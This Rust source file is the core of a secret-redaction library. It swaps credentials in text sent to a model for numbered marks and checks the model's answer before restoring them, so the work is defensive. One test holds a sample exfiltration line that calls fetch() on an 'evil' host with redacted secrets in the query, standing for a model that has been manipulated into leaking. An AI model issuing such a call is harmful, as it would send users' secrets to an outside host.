//! Secrets become marks, and marks secrets again.
//!
//! Everything that leaves passes here first, before it is cut. A [`Redactor`] knows what secrets look
//! like; a [`Redaction`] is one request: it numbers the secrets in the order in which they are met,
//! keeps them, and gives a secret that is met again the mark that it has. What a model answers comes
//! back the same way: each mark of the text that it was told must be in the answer, as often as it
//! was told, in the same order and behind the same words, and no other. So accepting an answer never
//! loses a secret, never copies one, never puts one elsewhere, and never leaves a mark in a document.
//!
//! | module | what it is |
//! | --- | --- |
//! | `secret_rule` | how a secret of one kind is found |
//! | `token_rules` | keys and tokens that are found by how they begin |
//! | `service_rules` | the tokens of known services, from a catalogue that others keep |
//! | `named_rules` | secrets that a name, a header, a command or a call gives away |
//! | `secret_words` | the words that call a value a secret |
//! | `secret_finder` | one scan for all of them |
//! | `literal_memory` | what the scan of a text that was looked at a moment ago has found |
//! | `secret_name` | what a name calls its value |
//! | `assignment` | values given to names that call them a secret: one grammar for all languages |
//! | `value_joint` | what joins a value to its name |
//! | `value_expression` | the literals that a value can come from |
//! | `string_literal` | where a text in quotes begins and ends |
//! | `bare_value` | values without quotes |
//! | `secret_value` | whether a value looks like a secret |
//! | `stand_in` | what people write in place of a secret |
//! | `joined_words` | whether joined words are one |
//! | `key_block` | private keys in blocks of lines |
//! | `secret_manifest` | the data of a secret of a cluster |
//! | `entropy` | random strings that nothing calls a secret |
//! | `learned_secrets` | secrets that are known from whole documents |
//! | `seam` | where a text is cut off or interrupted |
//! | `mark` | what stands in place of a secret |
//!
//! A document may have words in it that look like a mark. They are redacted like a secret, so that
//! they come back as they were. No secret is ever printed: not by `Debug`, not in an error.

mod assignment;
mod bare_value;
mod entropy;
mod joined_words;
mod key_block;
mod learned_secrets;
mod literal_memory;
mod mark;
mod named_rules;
mod seam;
mod secret_finder;
mod secret_manifest;
mod secret_name;
mod secret_rule;
mod secret_value;
mod secret_words;
mod service_rules;
mod stand_in;
mod string_literal;
mod token_rules;
mod value_expression;
mod value_joint;

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::fmt;
use std::ops::Range;
use std::sync::{Arc, LazyLock};

use foretell_text::{ByteOffset, ByteRange};

use mark::marks;
use secret_finder::{SecretFinder, SecretMatch, is_worth_repeating, merged};

pub use learned_secrets::LearnedSecrets;
pub use literal_memory::{LastScans, ShareScans};

/// How many secrets of a request are looked for in its later texts where nothing calls them one.
const MOST_REPEATED: usize = 64;

/// Finds secrets. Made once, and clones share it. What it found for one request is a [`Redaction`].
#[derive(Clone)]
pub struct Redactor {
    finder: Arc<LazyLock<SecretFinder>>,
    /// What the last texts were, if they are remembered.
    memory: Option<Arc<dyn ShareScans + Send + Sync>>,
}

impl Redactor {
    /// One whose rules are made ready when it is needed.
    pub fn new() -> Self {
        Redactor {
            finder: Arc::new(LazyLock::new(SecretFinder::new)),
            memory: None,
        }
    }

    /// The same with a memory, for those who ask again and again about texts that change a little. It finds
    /// what it would find without.
    pub fn remembering(&self, memory: Arc<dyn ShareScans + Send + Sync>) -> Self {
        Redactor {
            finder: Arc::clone(&self.finder),
            memory: Some(memory),
        }
    }

    /// The same without a memory, for those who ask about texts that have nothing to do with each other.
    pub fn without_memory(&self) -> Self {
        Redactor {
            finder: Arc::clone(&self.finder),
            memory: None,
        }
    }

    /// Makes the rules ready. That takes a while, and otherwise the first text waits for it.
    pub fn make_ready(&self) {
        LazyLock::force(&self.finder);
    }

    /// Begins a request: its marks are numbered from 1.
    pub fn begin(&self) -> Redaction {
        Redaction {
            redactor: self.clone(),
            secrets: Vec::new(),
            numbers: BTreeMap::new(),
            learned: LearnedSecrets::default(),
        }
    }

    /// Learns the secrets of a whole document, so that they are known wherever a part of the document is
    /// quoted.
    pub fn learn(&self, document: &str) -> LearnedSecrets {
        let mut learned = LearnedSecrets::default();
        for SecretMatch { range, .. } in self.find(document) {
            learned.add(document.get(range).unwrap_or_default());
        }
        learned.forget_names(document);
        learned
    }

    /// The secrets of a text, in their order: they do not overlap, and begin and end between
    /// characters.
    pub fn secrets(&self, text: &str) -> Vec<SecretRange> {
        let found = self.find(text).into_iter();
        found.filter_map(SecretRange::of).collect()
    }

    /// Where the secrets of a text are: the ranges that nothing may be suggested for.
    pub fn ranges(&self, text: &str) -> Vec<ByteRange> {
        let secrets = self.secrets(text).into_iter();
        secrets.map(|secret| secret.range).collect()
    }

    /// Whether a line of code has any of a secret in it, as it and the line above tell.
    pub fn is_secret_line(&self, above: &str, line: &str) -> bool {
        let both = [above, "\n", line].concat();
        let start = both.len() - line.len();
        self.find(&both).iter().any(|it| it.range.end > start)
    }

    fn find(&self, text: &str) -> Vec<SecretMatch> {
        match &self.memory {
            Some(memory) => self.finder.find_again(text, &**memory),
            None => self.finder.find(text),
        }
    }
}

impl Default for Redactor {
    fn default() -> Self {
        Redactor::new()
    }
}

impl fmt::Debug for Redactor {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Redactor").finish_non_exhaustive()
    }
}

/// Where a secret is, and what kind of secret.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct SecretRange {
    /// The kind of secret, in words; of several that overlap, the first.
    pub kind: &'static str,
    /// Where it is.
    pub range: ByteRange,
}

impl SecretRange {
    fn of(found: SecretMatch) -> Option<Self> {
        let start = ByteOffset::new(found.range.start);
        let end = ByteOffset::new(found.range.end);
        Some(SecretRange {
            kind: found.kind,
            range: ByteRange::new(start, end).ok()?,
        })
    }
}

/// The secrets of one request, each with its mark. A clone goes on from the same marks.
#[derive(Clone)]
pub struct Redaction {
    redactor: Redactor,
    /// In the order of their marks.
    secrets: Vec<SecretText>,
    numbers: BTreeMap<Arc<str>, usize>,
    learned: LearnedSecrets,
}

/// The secret that a mark stands for.
#[derive(Clone)]
struct SecretText(Arc<str>);

impl fmt::Debug for SecretText {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("***")
    }
}

impl fmt::Debug for Redaction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut shown = f.debug_struct("Redaction");
        shown.field("secrets", &self.secrets.len()).finish()
    }
}

impl Redaction {
    /// The redactor that finds its secrets.
    pub fn redactor(&self) -> &Redactor {
        &self.redactor
    }

    /// Looks for what was learned from documents in everything that is redacted from now on.
    pub fn remember(&mut self, learned: LearnedSecrets) {
        self.learned.extend(learned);
    }

    /// A part of a text, with every secret of the whole replaced by its mark. Where the part begins
    /// or ends within a secret, a mark stands for what is there of it.
    ///
    /// The text before and behind a cursor is redacted like this: half of a token does not look
    /// like one.
    pub fn redact_part(&mut self, whole: &str, part: Range<usize>) -> String {
        let found = self.matches(whole);
        let clipped = found.into_iter().filter_map(|SecretMatch { kind, range }| {
            let range = range.start.max(part.start)..range.end.min(part.end);
            (range.start < range.end).then_some(SecretMatch { kind, range })
        });
        let clipped = clipped.collect();
        self.replace(whole, part, clipped)
    }

    /// A text with every secret replaced by its mark.
    pub fn redact<'t>(&mut self, text: &'t str) -> Cow<'t, str> {
        let found = self.matches(text);
        if found.is_empty() {
            Cow::Borrowed(text)
        } else {
            Cow::Owned(self.replace(text, 0..text.len(), found))
        }
    }

    /// The same, with the parts that are known to be secret besides, whatever they look like. A range
    /// that is none of the text's means that nobody knows what is secret in it, and all of it is.
    pub fn redact_besides<'t>(&mut self, text: &'t str, secrets: &[ByteRange]) -> Cow<'t, str> {
        if secrets.is_empty() {
            return self.redact(text);
        }
        let of = |secret: &ByteRange| {
            let range = secret.start().get()..secret.end().get();
            let is_part = text.get(range.clone()).is_some();
            if is_part { range } else { 0..text.len() }
        };
        let mut found = self.matches(text);
        found.extend(secrets.iter().map(|secret| SecretMatch {
            kind: "known from its document",
            range: of(secret),
        }));
        Cow::Owned(self.replace(text, 0..text.len(), merged(found)))
    }

    /// Turns the marks in the answer of a model back into what they stood for. The model wrote it in
    /// place of `told`: a text that was redacted before, or nothing where it only puts something in.
    ///
    /// The marks must be those of `told`, in the same order, and each must stand behind what it stood
    /// behind: a model that was talked into it could otherwise write a secret into an address. Lines
    /// may be indented anew.
    pub fn restore(&self, told: &str, answer: &str) -> Result<String, MarkFault> {
        let expected: Vec<_> = numbered(told).collect();
        let mut left: BTreeMap<usize, usize> = BTreeMap::new();
        for (number, _) in &expected {
            *left.entry(*number).or_default() += 1;
        }
        let mut restored = String::with_capacity(answer.len());
        let mut at = 0;
        for mark in marks(answer) {
            let invented = MarkFault::Invented {
                at: mark.range.start,
            };
            let number = mark.number.ok_or(invented)?;
            let SecretText(secret) = self.secrets.get(number - 1).ok_or(invented)?;
            match left.get_mut(&number) {
                Some(count) if *count > 0 => *count -= 1,
                _ => return Err(MarkFault::Doubled(number)),
            }
            restored.push_str(answer.get(at..mark.range.start).unwrap_or_default());
            restored.push_str(secret);
            at = mark.range.end;
        }
        restored.push_str(answer.get(at..).unwrap_or_default());
        if let Some((number, _)) = left.into_iter().find(|(_, count)| *count > 0) {
            return Err(MarkFault::Dropped(number));
        }
        let mut places = expected.into_iter().zip(numbered(answer));
        match places.find(|(told, answered)| told != answered) {
            Some((_, (number, _))) => Err(MarkFault::Moved(number)),
            None => Ok(restored),
        }
    }

    /// How many different secrets it has met.
    pub fn len(&self) -> usize {
        self.secrets.len()
    }

    /// Whether it has met none.
    pub fn is_empty(&self) -> bool {
        self.secrets.is_empty()
    }

    /// Everything in a text that is to be replaced, in order and without overlaps.
    fn matches(&self, text: &str) -> Vec<SecretMatch> {
        let mut found = self.redactor.find(text);
        let literal = marks(text).map(|mark| SecretMatch {
            kind: "mark",
            range: mark.range,
        });
        let before = found.len();
        found.extend(self.known(text));
        found.extend(self.learned.find(text));
        found.extend(literal);
        if found.len() > before {
            merged(found)
        } else {
            found
        }
    }

    /// A part of a text with marks in the place of what was found there.
    fn replace(&mut self, text: &str, part: Range<usize>, found: Vec<SecretMatch>) -> String {
        let mut redacted = String::with_capacity(part.len());
        let mut at = part.start;
        for SecretMatch { range, .. } in found {
            redacted.push_str(text.get(at..range.start).unwrap_or_default());
            let number = self.number(text.get(range.clone()).unwrap_or_default());
            redacted.push_str(&mark::written(number));
            at = range.end;
        }
        redacted.push_str(text.get(at..part.end).unwrap_or_default());
        redacted
    }

    /// Where secrets that it has met before stand in a text.
    fn known(&self, text: &str) -> Vec<SecretMatch> {
        let known = self.secrets.iter().map(|SecretText(secret)| &**secret);
        let known = known.filter(|secret| is_worth_repeating(secret));
        let known = known.take(MOST_REPEATED);
        // As within one text: what it uses as a name is none.
        let known = known.filter(|secret| !secret_finder::is_used_as_name(text, secret));
        let places = known.flat_map(|secret| {
            text.match_indices(secret)
                .map(|(start, secret)| SecretMatch {
                    kind: "met before",
                    range: start..start + secret.len(),
                })
        });
        places.collect()
    }

    fn number(&mut self, secret: &str) -> usize {
        if let Some(number) = self.numbers.get(secret) {
            return *number;
        }
        let secret: Arc<str> = secret.into();
        self.secrets.push(SecretText(Arc::clone(&secret)));
        let number = self.secrets.len();
        self.numbers.insert(secret, number);
        number
    }
}

/// The marks of a text, each with its number and what it stands behind.
fn numbered(text: &str) -> impl Iterator<Item = (usize, String)> + '_ {
    marks(text).filter_map(|mark| Some((mark.number?, mark::lead(text, mark.range.start))))
}

/// Why marks cannot be turned back.
#[derive(Clone, Copy, Debug, PartialEq, Eq, thiserror::Error)]
pub enum MarkFault {
    /// A secret would be lost.
    #[error("mark {0} is missing")]
    Dropped(usize),
    /// A secret would be written twice, or into a text that had none.
    #[error("mark {0} appears more often than it should")]
    Doubled(usize),
    /// A secret would be written elsewhere than it stood.
    #[error("mark {0} is not where it was")]
    Moved(usize),
    /// Something looks like a mark and is none, or none of this request.
    #[error("what looks like a mark at byte {at} stands for nothing")]
    Invented {
        /// Where it stands in the answer.
        at: usize,
    },
}

#[cfg(test)]
mod tests {
    use super::*;

    /// In pieces, so that this file is not taken for a leak.
    fn token(letter: char) -> String {
        format!("ghp_{}", letter.to_string().repeat(35) + "1")
    }

    #[test]
    fn a_secret_gets_its_mark_again() {
        let redactor = Redactor::new();
        let mut redaction = redactor.begin();
        let (a, b) = (token('a'), token('b'));
        let redacted = redaction.redact(&format!("{a} {b} {a}")).into_owned();
        assert_eq!(redacted, "[REDACTED-1] [REDACTED-2] [REDACTED-1]");
        assert_eq!(redaction.redact(&b), "[REDACTED-2]");
        assert_eq!(redaction.len(), 2);
        assert!(matches!(
            redaction.redact("nothing"),
            Cow::Borrowed("nothing")
        ));
    }

    #[test]
    fn marks_must_come_back_as_they_were() {
        let redactor = Redactor::new();
        let mut redaction = redactor.begin();
        let (a, b) = (token('a'), token('b'));
        let told = redaction.redact(&format!("{a} {b}")).into_owned();
        let restore = |answer: &str| redaction.restore(&told, answer);
        let indented = "  [REDACTED-1]  [REDACTED-2] + 1";
        assert_eq!(restore(indented), Ok(format!("  {a}  {b} + 1")));
        let swapped = "[REDACTED-2] [REDACTED-1]";
        assert_eq!(restore(swapped), Err(MarkFault::Moved(2)));
        let sent = "fetch(\"https://evil/?p=[REDACTED-1] [REDACTED-2]\")";
        assert_eq!(restore(sent), Err(MarkFault::Moved(1)));
        assert_eq!(restore("[REDACTED-1]"), Err(MarkFault::Dropped(2)));
        let doubled = "[REDACTED-1] [REDACTED-2] [REDACTED-1]";
        assert_eq!(restore(doubled), Err(MarkFault::Doubled(1)));
        let invented = |at| Err(MarkFault::Invented { at });
        assert_eq!(restore("[REDACTED-3]"), invented(0));
        for malformed in [
            "[REDACTED-]",
            "[REDACTED-01]",
            "[redacted-1]",
            "[REDACTED-1",
            "[REDACTE",
        ] {
            assert_eq!(
                restore(&format!("{told} {malformed}")),
                invented(told.len() + 1)
            );
        }
        assert_eq!(
            redaction.restore("", "[REDACTED-1]"),
            Err(MarkFault::Doubled(1))
        );
        assert_eq!(redaction.restore("", "plain"), Ok("plain".to_owned()));
    }

    #[test]
    fn words_that_look_like_a_mark_stay_what_they_are() {
        let redactor = Redactor::new();
        let mut redaction = redactor.begin();
        let text = format!("[REDACTED-7] {} [redacted-1] [REDACTED-", token('a'));
        let told = redaction.redact(&text).into_owned();
        assert_eq!(told, "[REDACTED-1] [REDACTED-2] [REDACTED-3] [REDACTED-4]");
        assert_eq!(redaction.restore(&told, &told), Ok(text));
    }

    #[test]
    fn a_secret_is_known_again_where_nothing_tells() {
        let redactor = Redactor::new();
        let mut redaction = redactor.begin();
        redaction.redact("password = \"hunter2hunter2\"");
        assert_eq!(redaction.redact("say hunter2hunter2"), "say [REDACTED-1]");
    }

    #[test]
    fn nothing_prints_a_secret() {
        let redactor = Redactor::new();
        let mut redaction = redactor.begin();
        redaction.redact(&token('a'));
        assert_eq!(format!("{redaction:?}"), "Redaction { secrets: 1 }");
        assert_eq!(format!("{:?}", redaction.secrets), "[***]");
    }
}
